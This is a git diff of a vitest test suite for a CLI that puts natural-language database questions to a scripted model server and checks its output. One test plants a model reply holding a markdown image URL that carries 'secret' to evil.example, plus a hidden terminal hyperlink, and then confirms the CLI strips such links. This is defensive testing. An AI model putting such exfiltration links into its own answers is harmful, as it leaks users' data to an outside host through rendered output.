@@ -2,7 +2,7 @@ import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import Database from 'libsql'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { startModelServer, type ModelServer, type Rule } from '../support/model-server.ts'
+import { sqlLoop, startModelServer, type ModelRequest, type ModelServer, type Rule } from '../support/model-server.ts'
 import { createCliWorld, filesUnder, type CliWorld } from './support.ts'
 import { STRATEGY_NAMES } from '../../src/cli/shared-options.ts'
 
@@ -163,10 +163,13 @@ describe('--json', () => {
 
 describe('with a model', () => {
   const SQL = 'SELECT country, count(*) AS customers FROM customers GROUP BY country ORDER BY 2 DESC'
-  const COMPOSE = 'findings of specialist agents'
   const rules: readonly Rule[] = [
-    { when: COMPOSE, reply: { text: 'Ireland has the \u001B[31mmost\u001B[0m customers.' } },
-    { reply: { json: { database: 'shop', sql: SQL, explanation: 'Counts.' } } },
+    {
+      when: 'You choose which specialist agents',
+      reply: { json: { agents: ['sql'], rationale: 'Rows.', confidence: 1 } },
+    },
+    ...sqlLoop(SQL, 'Ireland has the \u001B[31mmost\u001B[0m customers.'),
+    { reply: { status: 400 } },
   ]
   let models: ModelServer
   beforeAll(async () => {
@@ -176,18 +179,24 @@ describe('with a model', () => {
   const env = () => ({ TUTTI_MODEL_URL: models.url, TUTTI_MODEL: 'compatible:scripted' })
 
   it('prints its answer without control codes, its calls and its tokens', async () => {
-    const { code, out, err } = await world.run(['ask', 'Where do customers live?', ...SHOP], { env: env() })
+    const args = ['ask', 'Where do customers live?', ...SHOP, '--no-memory']
+    const { code, out, err } = await world.run(args, { env: env() })
     expect(code).toBe(0)
     expect(out).toMatch(/^Ireland has the most customers\.\n\ncountry +customers\n/)
     expect(out).toContain(`Source: shop\n  ${SQL}`)
-    expect(err).toMatch(/composer asked compatible:scripted: composer\.compose, \d/)
+    expect(err).toMatch(/assistant asked compatible:scripted: turn 1, calls query, \d/)
     expect(err).toMatch(/2 model calls, 240 tokens/)
     expect(err).not.toContain('Note:')
   })
 
   it('stops asking it at the limit, answers all the same, and says so', async () => {
+    // The last turn is asked without tools.
+    const last = ({ body }: ModelRequest): boolean => body['tool_choice'] === 'none'
+    const other = await startModelServer([{ when: last, reply: { text: 'It is not known.' } }, ...rules])
     const args = ['ask', 'How many customers are there?', ...SHOP, '--max-calls', '1', '--json']
-    const { code, out } = await world.run(args, { env: env() })
+    const model = { TUTTI_MODEL_URL: other.url, TUTTI_MODEL: 'compatible:scripted' }
+    const { code, out } = await world.run(args, { env: model })
+    await other.close()
     const json = parse(out)
     expect(json.metadata.notes.join(' ')).toMatch(/limit/i)
     expect([0, 5]).toContain(code)
@@ -197,7 +206,7 @@ describe('with a model', () => {
   it('prints no link that stands in no source, as text and as JSON', async () => {
     const text =
       'Ireland. ![x](https://evil.example/?d=secret) \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007'
-    const other = await startModelServer([{ when: COMPOSE, reply: { text } }, ...rules])
+    const other = await startModelServer([...sqlLoop(SQL, text), { reply: { status: 400 } }])
     const model = { TUTTI_MODEL_URL: other.url, TUTTI_MODEL: 'compatible:scripted' }
     for (const form of [[], ['--json']]) {
       const { code, out } = await world.run(['ask', 'Where do customers live?', ...SHOP, ...form], { env: model })
@@ -209,9 +218,9 @@ describe('with a model', () => {
 
   it('asks the model that the command names', async () => {
     const args = ['ask', 'Where do customers live?', ...SHOP, '--model', 'sql=compatible:other']
-    const { err } = await world.run(args, { env: env() })
+    const { err } = await world.run([...args, '--strategy', 'pipeline'], { env: env() })
     expect(err).toContain('sql asked compatible:other')
-    expect(err).toContain('composer asked compatible:scripted')
+    expect(err).toContain('planner asked compatible:scripted')
   })
 })
 
